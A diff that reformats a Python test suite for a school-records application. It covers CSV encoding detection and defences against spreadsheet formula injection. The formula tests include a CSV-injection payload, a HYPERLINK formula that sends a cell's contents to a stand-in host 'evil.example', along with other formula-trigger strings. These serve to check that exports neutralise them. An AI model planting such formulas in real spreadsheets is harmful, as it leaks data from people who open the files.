@@ -11,15 +11,26 @@ from openpyxl import load_workbook
 from itog.core import tables
 
 HEADER = "Фамилия;Имя;Отчество;Дата рождения;Класс;Код ОО"
-ROWS = ["Щербакова;Ёлка;Юрьевна;01.02.2009;11;010001", "Эйхман;Фёдор;Ильич;12.12.2008;11;010002",
-        "Жуков;Цезарь;Шамилевич;03.03.2009;9;010003"]
+ROWS = [
+    "Щербакова;Ёлка;Юрьевна;01.02.2009;11;010001",
+    "Эйхман;Фёдор;Ильич;12.12.2008;11;010002",
+    "Жуков;Цезарь;Шамилевич;03.03.2009;9;010003",
+]
 TEXT = "\n".join([HEADER, *ROWS]) + "\n"
 
 
-@pytest.mark.parametrize("codec, label", [
-    ("koi8_r", "KOI8-R"), ("cp1251", "Windows-1251"), ("cp866", "DOS (CP866)"),
-    ("utf-8", "UTF-8"), ("utf-8-sig", "UTF-8"), ("utf-16", "UTF-16"), ("utf-16-le", "UTF-16"),
-])
+@pytest.mark.parametrize(
+    "codec, label",
+    [
+        ("koi8_r", "KOI8-R"),
+        ("cp1251", "Windows-1251"),
+        ("cp866", "DOS (CP866)"),
+        ("utf-8", "UTF-8"),
+        ("utf-8-sig", "UTF-8"),
+        ("utf-16", "UTF-16"),
+        ("utf-16-le", "UTF-16"),
+    ],
+)
 def test_encodings_are_told_apart(codec, label):
     table = tables.read_table(TEXT.encode(codec), "list.csv")
     assert table.encoding == label
@@ -58,8 +69,14 @@ def test_koi8_import_error_names_columns_correctly():
     assert "Р¤" not in messages and "\ufffd" not in messages  # no mojibake of the header in the message
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Иванов")', "+79001234567", "-1+1", "@SUM(A1)",
-            "\tтаб", "\rвозврат"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Иванов")',
+    "+79001234567",
+    "-1+1",
+    "@SUM(A1)",
+    "\tтаб",
+    "\rвозврат",
+]
 
 
 def test_xlsx_writer_writes_formula_like_texts_as_text():
@@ -80,7 +97,7 @@ def test_csv_writer_neutralises_formula_like_texts():
     data = tables.write_csv(["Имя"], [[v] for v in FORMULAS] + [[-5], ["Обычный текст"]])
     read = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
     cells = [r[0] for r in read[1:]]
-    assert cells[:len(FORMULAS)] == ["'" + v for v in FORMULAS]
+    assert cells[: len(FORMULAS)] == ["'" + v for v in FORMULAS]
     assert cells[-2:] == ["-5", "Обычный текст"]
 
 
@@ -89,8 +106,15 @@ def test_plan_export_writes_formula_like_activity_as_text():
 
     from itog.plans.exports import plan_xlsx
 
-    item = SimpleNamespace(section_id=None, number="1", key="1", activity="=HYPERLINK(\"http://x\",\"y\")",
-                           deadline_raw="-до 1 декабря", deadline_display="-до 1 декабря", responsible_raw="@МОУО")
+    item = SimpleNamespace(
+        section_id=None,
+        number="1",
+        key="1",
+        activity='=HYPERLINK("http://x","y")',
+        deadline_raw="-до 1 декабря",
+        deadline_display="-до 1 декабря",
+        responsible_raw="@МОУО",
+    )
     ws = load_workbook(io.BytesIO(plan_xlsx(SimpleNamespace(title="=План"), [item]))).active
     assert ws["A1"].data_type == "s" and ws["A1"].value == "=План"
     assert ws["B3"].data_type == "s" and ws["B3"].value.startswith("=HYPERLINK")
